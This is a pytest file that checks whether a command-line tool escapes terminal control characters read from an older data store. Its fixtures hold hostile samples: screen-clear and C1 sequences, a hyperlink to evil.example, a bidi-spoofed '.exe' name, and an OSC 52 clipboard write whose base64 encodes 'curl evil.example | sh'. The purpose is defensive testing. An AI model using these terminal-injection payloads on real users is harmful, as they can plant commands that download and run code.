"""Text from an older store never drives the terminal: control characters show as escapes.

A store written before text fields refused control characters may hold ESC and C1
sequences (screen clears, OSC 8 hyperlinks, OSC 52 clipboard writes) and bidi overrides.
The store is built here through the application with records that skip the input models'
checks, as the old models let them in; then the installed `regimes` script runs each
human-facing command in a process of its own, and no raw control byte may reach stdout or
stderr (issue 14, defect 6). JSON escapes control characters itself and is not checked here.
"""

from __future__ import annotations

import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from domain.batch import Batch, Numbered
from domain.records import SourceRecord, parse_record
from store.locations import parse_store
from store.log import open_application
from tests.commands import REGIMES, invoked
from tests.samples import RECORDED_AT, action, follow_up, imposed

#: Text an attacker (or a careless copy from a web page) put into an older store.
CLEAR_SCREEN = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
HYPERLINK = "\x1b]8;;https://evil.example/\x1b\\"
C1_CSI = "\x9b31m"
BIDI = "\u202egpj.exe"

#: Every record as (valid record, the text fields to put hostile text into afterwards).
OLDER_RECORDS: list[tuple[dict[str, Any], dict[str, Any]]] = [
    (
        imposed("cn-escape", items=["Dy"], destinations=["*"]),
        {
            "title": f"Licence{CLEAR_SCREEN}",
            "document": f"No. 18{CLIPBOARD}{HYPERLINK}",
            "notes": f"n\x07{C1_CSI}\x7f",
        },
    ),
    (
        follow_up("measure_suspended", "cn-escape", effective_on="2025-06-01", until="2025-09-01"),
        {"document": f"Suspension{C1_CSI}{BIDI}"},
    ),
    (action("summit-escape"), {"title": f"Summit{CLIPBOARD}{BIDI}"}),
]
SOURCE_TITLE = f"Reuters{CLEAR_SCREEN}\x00"

#: A raw control byte, a C1 control or a bidi override as UTF-8, anywhere in the output.
RAW_CONTROL = re.compile(
    rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b\xa8-\xae]|\xe2\x81[\xa6-\xa9]"
)

#: The commands whose output is for people, each with the escaped text it must show.
COMMANDS: dict[str, tuple[tuple[str, ...], str]] = {
    "as-of table": (("as-of", "2025-05-01", "-e", "Dy"), "No. 18\\x1b]52;c;"),
    "as-of csv": (
        ("as-of", "2025-05-01", "-e", "Dy", "--format", "csv"),
        "No. 18\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b]8;;",
    ),
    "timeline table": (("timeline", "-e", "Dy"), "Suspension\\x9b31m\\u202egpj.exe"),
    "timeline csv": (
        ("timeline", "-e", "Dy", "--format", "csv"),
        "Suspension\\x9b31m\\u202egpj.exe",
    ),
    "diff table": (("diff", "2025-01-01", "2025-07-01", "-e", "Dy"), "cn-escape"),
    "log table": (("log",), "Licence\\x1b[2J\\x1b[H"),
    # JSON escapes C0 controls itself, then DEL, C1 and bidi controls are escaped too
    "show": (("show", "cn-escape"), '"notes": "n\\u0007\\x9b31m\\x7f",\n'),
    # JSON: the encoder escapes C0 controls; DEL, C1 and bidi characters are escaped after it
    "as-of json": (
        ("as-of", "2025-07-01", "-e", "Dy", "--format", "json"),
        "Suspension\\u009b31m\\u202egpj.exe",
    ),
    "log jsonl": (("log", "--format", "jsonl"), "Suspension\\u009b31m\\u202egpj.exe"),
    "search json": (("search", "Summit", "--format", "json"), "Summit\\u001b]52;c;"),
}


def older_store(path: Path) -> str:
    """A SQLite store holding `OLDER_RECORDS` with their hostile text, and a built view."""
    batch = Batch()
    for line, (raw, hostile) in enumerate(OLDER_RECORDS, 1):
        record = parse_record(raw, line)
        source = SourceRecord.model_construct(title=SOURCE_TITLE)
        record = record.model_copy(update={**hostile, "sources": (source,)})
        batch.records.append(Numbered(line, record))
    store = str(path)
    app = open_application(parse_store(store))
    try:
        assert app.append(batch, RECORDED_AT).appended == len(OLDER_RECORDS)
    finally:
        app.close()
    invoked("--store", store, "as-of", "2025-07-01")  # the view, built before the processes
    return store


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> str:
    return older_store(tmp_path_factory.mktemp("older") / "older.db")


def run(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([REGIMES, *args], capture_output=True, timeout=120, check=False)


@pytest.mark.parametrize(("command", "escaped"), COMMANDS.values(), ids=COMMANDS.keys())
def test_no_control_character_from_an_older_store_reaches_the_terminal(
    store: str, command: tuple[str, ...], escaped: str
) -> None:
    done = run("--store", store, *command)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    assert RAW_CONTROL.search(done.stdout) is None, done.stdout[:2000]
    assert RAW_CONTROL.search(done.stderr) is None, done.stderr[:2000]
    assert escaped in done.stdout.decode(), done.stdout[:2000]  # shown, not dropped


def test_append_errors_echo_no_control_characters_of_file_names_or_keys(
    store: str, tmp_path: Path
) -> None:
    named = tmp_path / "\x1b]0;owned\x07.jsonl"
    named.write_bytes(b'{"type": "action_taken", "\\u001b[2J": 1}\n')
    other = tmp_path / "other.jsonl"
    other.write_bytes(b'{"type": "action_taken", "title": "\\u009b2J"}\n')
    done = run("--store", store, "append", str(named), str(other))
    assert done.returncode == 1
    assert b"nothing was written" in done.stderr
    assert RAW_CONTROL.search(done.stderr) is None, done.stderr[:2000]
    assert b"\\x1b]0;owned\\x07.jsonl: line 1:" in done.stderr


def test_an_ambiguous_document_is_named_escaped_in_the_error(store: str) -> None:
    done = run("--store", store, "show", "S")  # two documents: No. 18… and Suspension…
    assert done.returncode == 1
    assert RAW_CONTROL.search(done.stderr) is None, done.stderr[:2000]
    assert "\\x1b]52;c;" in done.stderr.decode()
